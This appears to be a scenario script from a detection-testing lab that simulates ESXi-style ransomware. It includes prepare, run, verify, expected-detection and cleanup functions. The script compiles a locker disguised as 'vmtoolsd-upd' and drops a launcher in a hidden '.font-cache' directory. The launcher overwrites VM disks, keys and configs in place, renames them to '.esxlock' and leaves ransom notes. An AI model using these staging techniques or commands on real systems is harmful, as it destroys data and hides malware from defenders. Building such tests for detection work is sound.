# ESXi-style: the attacker first lists and "stops" VMs, then a native locker targets VM disk/config files
# and the system configuration directory; "How To Restore Your Files.txt" (name with spaces) per directory.
HOST=hv01.corp.example
SUMMARY="Attack: VM-disk and system-config locker (bin-src/locker.c as /root/.cache/vmtoolsd-upd) over /srv/rt-lab/vm and /srv/rt-lab/etc after a VM inventory; in-place overwrite + rename to .esxlock; 'How To Restore Your Files.txt' per directory; started from dave's session with sudo -H bash esx.sh."
targets() { find "$RT_ROOT/vm" "$RT_ROOT/etc" -type f -regextype posix-extended -regex '.*\.(qcow2|vmdk|vmx|nvram|conf|yaml|properties|pem|env|crontab)'; }

scenario_prepare() {
    mkdir -p /root/.cache && rt_compile locker /root/.cache/vmtoolsd-upd
    cat > "$RT_DROP/esx.sh" <<'SH'
#!/bin/bash
ls -la /srv/rt-lab/vm/*/ > /dev/null
for v in /srv/rt-lab/vm/*/*.vmx; do echo "stopping $(basename "$v" .vmx)"; done
/root/.cache/vmtoolsd-upd -e .esxlock -n 'How To Restore Your Files.txt' -x .qcow2,.vmdk,.vmx,.nvram,.conf,.yaml,.properties,.pem,.env,.crontab /srv/rt-lab/vm /srv/rt-lab/etc
SH
    chmod 755 "$RT_DROP/esx.sh"
    targets | sort > "$RT_OPT.targets"
    N_FILES=$(wc -l < "$RT_OPT.targets"); N_DIRS=$(rt_count_dirs < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_login dave "sudo -H bash /var/tmp/.font-cache/esx.sh"
}
scenario_verify() {
    rt_check encrypted "$(find "$RT_ROOT" -name '*.esxlock' | wc -l)" "$N_FILES" &&
    rt_check notes "$(find "$RT_ROOT" -name 'How To Restore Your Files.txt' | wc -l)" "$N_DIRS"
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /root/.cache/vmtoolsd-upd
    rootCommandContains: "vmtoolsd-upd -e .esxlock"
    launchedBy: "bash /var/tmp/.font-cache/esx.sh"
    loginUser: dave
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: in-place
    newExtension: .esxlock
    notes: { name: "How To Restore Your Files.txt", directories: $N_DIRS }
    tools: []
    targetRoots: [/srv/rt-lab/vm, /srv/rt-lab/etc]
Y
}
scenario_cleanup() { rm -f /root/.cache/vmtoolsd-upd "$RT_OPT.targets"; rmdir /root/.cache 2>/dev/null || true; }
